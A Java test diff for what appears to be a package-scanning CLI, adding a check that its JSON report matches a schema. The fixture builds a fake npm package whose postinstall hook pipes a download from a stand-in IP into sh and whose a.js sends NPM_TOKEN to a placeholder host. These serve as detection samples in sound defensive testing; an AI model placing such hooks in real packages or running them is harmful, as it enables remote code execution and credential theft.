@@ -2,6 +2,8 @@ package uk.reeve.cli;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import com.networknt.schema.InputFormat;
+import com.networknt.schema.SpecificationVersion;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.InputStream;
@@ -15,6 +17,7 @@ import java.util.Map;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import uk.reeve.cli.report.Schemas;
 import uk.reeve.engine.index.AdvisoryStore;
 import uk.reeve.engine.input.JsonInput;
 import uk.reeve.engine.input.Node;
@@ -131,6 +134,25 @@ class CheckTest {
                             .text("line"))
                     .isEqualTo("2");
         }
+    }
+
+    @Test
+    void json_is_what_its_schema_says() throws Exception {
+        teapot("1.0.1", "\"postinstall\": \"node a.js; curl -s http://203.0.113.7/x | sh\"");
+        Files.writeString(folder.resolve("teapot/a.js"), "fetch('https://kettle.invalid/' + process.env.NPM_TOKEN)");
+        Files.writeString(folder.resolve("teapot/b.tgz"), "no archive");
+        Files.writeString(folder.resolve("x.tgz"), "hello");
+        run("check", "teapot", "x.tgz", "npm/teapot@1.0.1", "npm/teapot@9.0.0", "--format", "json");
+        Path schema = Schemas.file("docs/reference/check.schema.json");
+        assertThat(Schemas.errors(schema, SpecificationVersion.DRAFT_2020_12, out, InputFormat.JSON))
+                .isEmpty();
+        assertThat(out).contains("\"unread\"", "\"words\"", "\"combinations\"", "no archive", "MAL-2030-1");
+        assertThat(Schemas.errors(
+                        schema,
+                        SpecificationVersion.DRAFT_2020_12,
+                        out.replace("\"score\"", "\"points\""),
+                        InputFormat.JSON))
+                .isNotEmpty();
     }
 
     @Test
